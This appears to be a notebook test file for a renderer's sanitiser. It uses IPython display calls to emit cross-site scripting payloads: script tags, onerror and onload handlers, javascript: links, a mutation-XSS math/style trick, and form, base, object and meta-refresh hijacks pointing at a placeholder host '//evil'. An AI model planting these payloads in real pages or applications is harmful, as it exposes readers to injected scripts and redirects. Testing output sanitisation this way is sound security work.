# /// attack
# tries = "Shows HTML, JavaScript, SVG and widgets that run scripts in the browser of whoever opens the page."
# threats = ["readers.scripts"]
# shows = ["alert(1)"]
# claim = "limits"
# ///

# %% use="honest"

# %%
from IPython.display import HTML, SVG, Javascript, display

display(
    HTML("<script>alert(1)</script><img src=x onerror=alert(1)><iframe srcdoc='<script>alert(1)</script>'>")
)
display(
    HTML("<a href='javascript:alert(1)'>x</a><form action=//evil><button>x</button></form><base href=//evil>")
)
display(HTML("<svg onload=alert(1)><style>*{display:none}</style><link rel=stylesheet href=//evil>"))
display(
    HTML(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    )
)
display(Javascript("alert(1)"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"))
for kind in ("application/javascript", "text/html", "application/vnd.jupyter.widget-view+json", "text/latex"):
    display(
        {kind: "<object data=//evil></object><meta http-equiv='refresh' content='0;url=//evil'>alert(1)"},
        raw=True,
    )
